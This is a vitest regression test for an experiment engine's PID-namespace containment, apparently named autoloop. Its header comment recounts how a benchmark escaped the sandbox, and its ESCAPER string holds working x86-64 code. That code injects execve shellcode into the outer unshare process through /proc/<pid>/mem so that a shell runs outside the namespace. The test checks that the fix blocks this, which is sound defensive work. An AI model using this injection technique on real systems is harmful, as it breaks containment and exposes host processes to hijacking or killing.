// Under the `pidns` containment the run's outer `unshare` sits outside the PID
// namespace, in the run's user namespace, and /proc is the machine's: a
// benchmark in that same user namespace found it there and wrote its code
// through /proc/<pid>/mem (no capability needed), so that when the namespace
// ended the unshare ran a shell of the benchmark's, outside the namespace:
// it could signal the engine (SIGSTOP, SIGKILL) and every process of the
// user. The command now runs in a user namespace nested in the run's, from
// which the unshare's memory, environment and descriptors are out of reach.
// Real engine, real namespaces, real processes; x86-64 only (the code written).
import { describe, expect, it } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { engine, makeRepo } from './helpers/engine.ts';
import { tmpDir } from './helpers/tmp.ts';

/**
 * The benchmark's attack: find the run's unshare by the run's token in its
 * environment, read where it waits (/proc/<pid>/syscall), and write there an
 * execve of `/bin/sh -c <argv[2]> escaped <the unshare's parent>`.
 */
const ESCAPER = `const fs = require('node:fs');
const want = 'AUTOLOOP_RUN_TOKEN=' + process.env.AUTOLOOP_RUN_TOKEN;
let target = null;
for (const n of fs.readdirSync('/proc').filter((n) => /^\\d+$/.test(n))) {
  try {
    if (fs.readFileSync('/proc/' + n + '/cmdline', 'latin1').split('\\0')[0] !== 'unshare') continue;
    if (fs.readFileSync('/proc/' + n + '/environ', 'latin1').includes(want)) target = n;
  } catch {}
}
if (!target) process.exit(0);
const at = fs.readFileSync('/proc/' + target + '/syscall', 'utf8').trim().split(' ');
const pc = BigInt(at[at.length - 1]);
const parent = fs.readFileSync('/proc/' + target + '/stat', 'latin1').split(') ')[1].split(' ')[1];
const strs = ['/bin/sh', '-c', process.argv[2], 'escaped', parent].map((s) => Buffer.from(s + '\\0'));
const argv = 32, text = argv + 8 * (strs.length + 1);
const size = text + strs.reduce((n, b) => n + b.length, 0);
const buf = Buffer.alloc(size);
// lea rdi,[rip+x]; lea rsi,[rip+y]; xor edx,edx; mov eax,59 (execve); syscall; int3
Buffer.from([0x48, 0x8d, 0x3d, 0, 0, 0, 0, 0x48, 0x8d, 0x35, 0, 0, 0, 0, 0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05, 0xcc]).copy(buf);
buf.writeInt32LE(text - 7, 3);
buf.writeInt32LE(argv - 14, 10);
let p = text;
strs.forEach((s, i) => { buf.writeBigUInt64LE(pc + BigInt(p), argv + 8 * i); s.copy(buf, p); p += s.length; });
const fd = fs.openSync('/proc/' + target + '/mem', 'r+');
fs.writeSync(fd, buf, 0, size, Number(pc));
`;

const BENCH = '. ./src/hook.sh\necho METRIC score=$(cat src/v)\n';

describe.skipIf(os.arch() !== 'x64')("a benchmark rewriting its run's unshare (pidns)", () => {
  it('cannot reach it: no code of its own runs outside the namespace, and the engine is never signalled', () => {
    const mark = path.join(tmpDir('autoloop-escape-'), 'reached');
    const repo = makeRepo({ 'bench.sh': BENCH, 'src/v': '50\n', 'src/hook.sh': ':\n', 'src/escape.cjs': ESCAPER });
    const env = { AUTOLOOP_CONTAINMENT: 'pidns' };
    const init = engine('init-experiment', ['--name', 'exp', '--metric', 'score', '--direction', 'lower', '--command', 'sh bench.sh', '--scope', 'src/**'], repo, env);
    expect(init.code, init.stderr).toBe(0);
    expect(engine('run-experiment', ['--description', 'baseline', '--json'], repo, env).json).toMatchObject({ verdict: 'keep' });
    // Outside the namespace, $1 (the unshare's parent: the engine) can be signalled: kill -0 says so.
    const payload = `kill -0 "$1" && echo "signalled $1" > '${mark}'; exit 0`;
    fs.writeFileSync(path.join(repo, 'src/hook.sh'), `'${process.execPath}' src/escape.cjs '${payload.replace(/'/g, `'\\''`)}'\n`);
    fs.writeFileSync(path.join(repo, 'src/v'), '40\n');
    const r = engine('run-experiment', ['--description', 'A', '--json'], repo, env);
    expect(r.json, r.stderr).toMatchObject({ status: 'ok', primary: 40 });
    expect(fs.existsSync(mark) ? fs.readFileSync(mark, 'utf8') : 'not reached').toBe('not reached');
  });
});
